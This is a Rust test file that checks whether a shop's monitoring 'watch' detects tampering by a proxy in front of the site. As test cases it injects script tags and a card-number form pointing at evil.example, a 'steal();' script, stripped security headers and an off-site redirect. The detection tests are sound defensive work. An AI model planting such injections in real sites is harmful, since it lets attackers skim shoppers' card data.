//! Somebody in front of the gate changes what customers are sent. The gate cannot see it; the watch sees it from outside.
#![allow(clippy::unwrap_used)]

use e2e::proxy::{self, Change, Proxy};
use serde_json::Value;
use std::process::Command;
use testkit::Dozo;

/// Looks through the proxy, as the watch does; what is found.
fn look(shop: &Dozo, through: &Proxy, rounds: u32) -> Vec<Value> {
    let out = Command::new(testkit::binary().unwrap())
        .args([
            "watch",
            "look",
            "--json",
            "--rounds",
            &rounds.to_string(),
            "--shop",
            &through.origin,
            "--data",
        ])
        .arg(shop.data())
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    let found: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(out.status.success(), found.is_empty(), "{}", String::from_utf8_lossy(&out.stderr));
    found
}

#[test]
fn what_is_changed_in_front_of_the_gate_is_found_in_two_rounds() {
    let shop = e2e::shop();
    let proxy = proxy::in_front_of(&shop).unwrap();
    let found = look(&shop, &proxy, 12);
    assert!(found.is_empty(), "an ordinary shop is quiet: {found:#?}");
    for (what, why, change) in [
        (
            "page_changed",
            "script",
            Change::Page("</body>", "<script src=\"https://evil.example/a.js\"></script></body>"),
        ),
        (
            "page_changed",
            "form",
            Change::Page(
                "</main>",
                "<form action=\"https://evil.example/\"><input name=\"number\"></form></main>",
            ),
        ),
        ("page_changed", "style", Change::Page("</body>", "<style>main{display:none}</style></body>")),
        ("page_changed", "link", Change::Page("<footer", "<a href=\"https://evil.example/\">x</a><footer")),
        ("page_changed", "field", Change::Page("name=\"q\"", "name=\"cc\"")),
        ("file_changed", "", Change::Script("steal();")),
        ("header_weak", "content-security-policy", Change::NoHeader("content-security-policy")),
        ("header_weak", "x-frame-options", Change::NoHeader("x-frame-options")),
        ("redirect_elsewhere", "", Change::Header("location: /", "location: https://evil.example/")),
    ] {
        proxy.set(&[change]);
        let found = look(&shop, &proxy, 2);
        let is = |case: &&Value| {
            let finding = &case["finding"];
            finding["what"] == what && (why.is_empty() || finding["why"] == why || finding["header"] == why)
        };
        let case = found.iter().find(is).unwrap_or_else(|| panic!("{what} {why}: {found:#?}"));
        eprintln!("{what} {why}: found after {} ms", case["after_ms"]);
        assert!(case["after_ms"].as_u64().unwrap() < 5_000, "{case}");
        assert!(!format!("{found:?}").contains("evil"), "nothing of the page is told: {found:?}");
    }
    proxy.set(&[]);
    assert!(look(&shop, &proxy, 2).is_empty());
}

#[test]
fn one_visitor_in_twenty_is_found_within_sixty_looks_at_a_page() {
    let shop = e2e::shop();
    let proxy = proxy::in_front_of(&shop).unwrap();
    proxy
        .set(&[Change::OneInTwenty("</body>", "<script src=\"https://evil.example/a.js\"></script></body>")]);
    // Every round looks at three pages or more: sixty looks.
    let found = look(&shop, &proxy, 12);
    assert!(found.iter().any(|case| case["finding"]["what"] == "page_changed"), "{found:#?}");
}

#[test]
fn the_watchs_own_visits_are_noted_and_are_those_of_the_records() {
    let shop = e2e::shop();
    std::thread::sleep(std::time::Duration::from_secs(5));
    let out = Command::new(testkit::binary().unwrap())
        .args(["watch", "visits", "--json", "--data"])
        .arg(shop.data())
        .output()
        .unwrap();
    let own: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
    let db = rusqlite::Connection::open(shop.data().join("shop/shop.db")).unwrap();
    let sql = "select lower(hex(visit_hash)) from card_entry where visit_hash is not null order by opened_at desc limit 1";
    let newest: String = db.query_row(sql, [], |row| row.get(0)).unwrap();
    assert!(own.iter().any(|visit| visit["visit"] == newest.as_str()), "{newest} is not among {own:?}");
}
